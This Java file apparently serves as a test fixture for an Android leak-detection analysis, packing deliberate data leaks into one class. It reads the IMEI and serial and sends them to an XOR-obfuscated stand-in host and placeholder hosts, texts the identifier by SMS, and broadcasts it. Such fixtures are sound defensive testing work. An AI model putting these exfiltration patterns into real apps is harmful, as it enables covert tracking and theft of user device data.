import android.content.Context;
import android.content.Intent;
import android.content.SharedPreferences;
import android.os.Build;
import android.os.Handler;
import android.os.Message;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Base64;
import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

/** Code with one of everything the analysis has a rule for: what the fuzz test changes. */
public class Leaks extends Handler implements Runnable {
    static final String HOST = decode(new byte[] {0x32, 0x2e, 0x2e, 0x2a, 0x60, 0x75, 0x75, 0x3b, 0x74, 0x38});
    static String kept;
    final Map<String, String> map = new HashMap<String, String>();
    final List<Object> list = new ArrayList<Object>();
    Leaks next;
    Context context;
    char[] path = {'/', 'u', 'p'};

    static String decode(byte[] b) {
        for (int i = 0; i < b.length; i++) b[i] ^= 0x5a;
        return new String(b);
    }

    public static String imei(Context c) {
        return ((TelephonyManager) c.getSystemService("phone")).getDeviceId();
    }

    public static int send(String to, byte[] what) throws Exception {
        HttpURLConnection u = (HttpURLConnection) new URL(to).openConnection();
        u.setRequestProperty("X-Model", Build.MODEL);
        OutputStream o = u.getOutputStream();
        o.write(what);
        o.close();
        return u.getResponseCode();
    }

    public void direct(Context c) throws Exception {
        context = c;
        kept = imei(c);
        StringBuilder b = new StringBuilder(HOST).append(new String(path)).append("?id=").append(kept);
        send(b.toString(), ("n=" + Build.SERIAL).getBytes("UTF-8"));
    }

    public void store(Context c, boolean on) {
        SharedPreferences p = c.getSharedPreferences("main", 0);
        if (on) p.edit().putString("id", imei(c)).commit();
        map.put("k", p.getString("id", "none"));
        list.add(map.get("k"));
        next = new Leaks();
        next.next = this;
        next.list.addAll(list);
        new Thread(next).start();
        sendMessage(Message.obtain(this, 3, kept));
        postDelayed(this, 1000L);
    }

    @Override public void run() {
        try {
            for (Object o : list) send("http://run.example/" + o, Base64.encode(String.valueOf(o).getBytes(), 0));
            synchronized (this) {
                if (next != null && next != this) next.run();
            }
        } catch (Exception e) {
            kept = e.getMessage();
        } finally {
            list.clear();
        }
    }

    @Override public void handleMessage(Message m) {
        switch (m.what) {
            case 1: SmsManager.getDefault().sendTextMessage("12345", null, kept, null, null); break;
            case 3: context.sendBroadcast(new Intent("leak").putExtra("id", (String) m.obj)); break;
            case 900: handleMessage(m); break;
        }
    }

    public Object reflect(String name, int n) throws Exception {
        Object[] grid = new Object[n + 2];
        long[] wide = {1L, 2L, 1L << n};
        float f = n / 3f;
        double d = wide[1] * f % 7;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(kept.getBytes());
        grid[0] = Class.forName("Leaks").getMethod(name.trim().toLowerCase(), Context.class).invoke(this, context);
        grid[1] = d > f ? out.toByteArray() : String.format("%s-%d", kept, wide[2]);
        if (grid[1] instanceof byte[]) send("https://reflect.example/" + n, (byte[]) grid[1]);
        return n > 0 ? reflect(name.substring(1), n - 1) : grid;
    }
}
